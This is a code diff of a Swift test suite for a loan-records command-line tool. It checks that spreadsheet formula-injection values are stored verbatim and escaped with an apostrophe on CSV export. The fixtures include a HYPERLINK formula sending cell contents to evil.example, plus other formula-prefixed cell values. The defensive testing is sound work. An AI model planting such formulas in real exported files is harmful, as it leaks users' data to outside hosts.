@@ -48,17 +48,21 @@ import Testing
         try cli.ok(["import", "loans", BadInput.path("csv/loans-formula-names.csv"), "--month", "2024-02"])
         // Accepted as data, stored verbatim.
         #expect(try sqlite(cli.database, "SELECT borrower_name FROM loan WHERE loan_id = '=LN-1'") == "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Bấm vào đây\")")
-        #expect(try sqlite(cli.database, "SELECT name FROM savings_group WHERE code = 'TS-G13'") == "\t=1+1")
+        // Leading tabs and CRs are trimmed from CSV cells on import; the CLI keeps them, so two groups get theirs here.
+        #expect(try sqlite(cli.database, "SELECT name FROM savings_group WHERE code = 'TS-G13'") == "=1+1")
+        try cli.ok(["groups", "update", "TS-G12", "--name", "\r=3+3"])
+        try cli.ok(["groups", "update", "TS-G13", "--name", "\t=2+2"])
         try cli.ok(["evaluate", "--month", "2024-02"])
         try cli.ok(["plan", "set", "--year", "2024", "--outstanding", "1000M"])
 
+        let commune = "'=HYPERLINK(\"\"http://evil.example/?c=\"\"&A1"
         let exports: [(arguments: [String], neutralised: [String])] = [
-            (["fees", "--month", "2024-02"], ["'=1+1 Hội Nông dân xã Tân Sơn", "'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1", "'+1+1", "'\t=1+1"]),
-            (["report", "district", "--month", "2024-02"], ["'=HYPERLINK(\"\"http://evil.example/?c=\"\"&A1"]),
-            (["report", "commune", "--month", "2024-02"], ["'=HYPERLINK(\"\"http://evil.example/?c=\"\"&A1"]),
-            (["report", "association", "--month", "2024-02"], ["'=HYPERLINK(\"\"http://evil.example/?c=\"\"&A1", "'\r=1+1 Phòng giao dịch Kim Bang",
-                                                                "'\t=1+1 Chi nhánh Hà Nam"]),
-            (["report", "group", "--month", "2024-02"], ["'=HYPERLINK(\"\"http://evil.example/?c=\"\"&A1"]),
+            (["fees", "--month", "2024-02"], ["'@SUM(1+1) Hội Nông dân xã Tân Sơn", "'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1",
+                                              "\"'\r=3+3\"", "'\t=2+2"]),
+            (["report", "district", "--month", "2024-02"], [commune]),
+            (["report", "commune", "--month", "2024-02"], [commune]),
+            (["report", "association", "--month", "2024-02"], [commune, "'-2+3 Phòng giao dịch Kim Bang", "'+1+1 Chi nhánh Hà Nam"]),
+            (["report", "group", "--month", "2024-02"], [commune]),
         ]
         for (arguments, neutralised) in exports {
             for lang in ["vi", "en"] {
